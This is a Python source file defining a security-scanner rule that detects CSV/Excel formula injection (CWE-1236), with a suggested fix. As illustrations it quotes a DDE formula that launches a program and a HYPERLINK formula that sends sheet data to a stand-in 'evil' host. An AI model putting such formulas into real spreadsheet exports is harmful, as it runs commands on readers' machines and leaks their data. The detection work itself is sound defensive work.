"""CWE-1236 by data flow: untrusted text written into spreadsheet cells (`csv-formula-injection`).

A CSV or Excel export of what users typed (a name, an address, a comment) is opened by staff in a
spreadsheet, which reads a cell starting with `=`, `+`, `-` or `@` as a formula: `=HYPERLINK()`
sends the sheet's data away, DDE formulas (`=cmd|' /C calc'!A0`) run programs on the reader's
machine. The rule follows untrusted data into `csv.writer(...).writerow`, `DictWriter.writerow`,
openpyxl's `append` and xlsxwriter's `write`.
"""

from __future__ import annotations

import ast

from secreview.analysis.rules._support.secret_text import name_words
from secreview.analysis.rules._support.taint import TaintSpec, taint_rule
from secreview.analysis.taint.results import SinkEvent
from secreview.findings import Confidence, Severity
from secreview.index.context import ModuleContext

_NEUTRALISING = (
    "escap",
    "sanit",
    "santi",
    "neutrali",
    "defus",
    "clean",
    "safe",
    "quot",
    "protect",
    "guard",
)
"""Stems of the verbs that name neutralising (misspellings seen in real code included:
gradio's fix calls `utils.santize_for_csv`)."""
_SPREADSHEET = frozenset({"csv", "excel", "formula", "spreadsheet", "cell", "xls", "xlsx", "dde"})


def _not_neutralised(event: SinkEvent, context: ModuleContext) -> bool:
    """False when the text went through a helper named for neutralising spreadsheet cells
    (`escape_csv(value)`, `sanitize_formula(cell)`), on its way or in the row written: however
    its body reads (or whether the scan can read it at all), that is its job."""
    sink = event.node
    written = list(sink.args) if isinstance(sink, ast.Call) else []
    inside = [n for argument in written for n in ast.walk(argument)]
    for node in [*(step for step, _ in event.flow.steps), *inside]:
        if isinstance(node, ast.Call):
            name = context.call_name(node) or context.one_line(node.func)
            words = set(name_words(name.rsplit(".", 1)[-1]))
            neutralises = any(w.startswith(_NEUTRALISING) for w in words)
            if neutralises and words & _SPREADSHEET:
                return False
    return True


csv_formula_injection = taint_rule(
    TaintSpec(
        "spreadsheet",
        "a cell starting with `=`, `+`, `-` or `@` is a formula that runs when the export is "
        "opened in a spreadsheet.",
        reports=_not_neutralised,
    ),
    id="csv-formula-injection",
    name="Formula injection: untrusted text written to spreadsheet cells",
    cwe=1236,
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    summary="Untrusted text is written into CSV or Excel cells unneutralised, where a leading "
    "`=`, `+`, `-` or `@` makes it a formula.",
    fix="Neutralise each text cell before writing it: prefix a `'` (or a tab) when it starts with "
    "`=`, `+`, `-`, `@`, a tab or a carriage return (OWASP's CSV injection advice), or write "
    "numbers as numbers.",
    what_it_does="Follows untrusted data (request data, and under `--threat-model library` a "
    "public function's parameters) into the rows of `csv.writer(...).writerow`/`writerows`, "
    "`csv.DictWriter.writerow`, openpyxl's `Worksheet.append` and xlsxwriter's `write`; text "
    "that went through a helper named for neutralising cells (`escape_csv`) is not reported.",
    why_bad="Spreadsheets run formulas in cells: whoever opens the export (often an "
    'administrator) runs `=HYPERLINK("https://evil/?"&A2)` or a DDE command the attacker typed '
    "into a form (CWE-1236).",
    example="writer = csv.writer(response)\nwriter.writerow([request.POST['name']])",
    use_instead="def cell(text):\n"
    "    return \"'\" + text if text[:1] in ('=', '+', '-', '@', '\\t', '\\r') else text\n"
    "writer.writerow([cell(request.POST['name'])])",
    references=(
        "https://cwe.mitre.org/data/definitions/1236.html",
        "https://owasp.org/www-community/attacks/CSV_Injection",
    ),
)
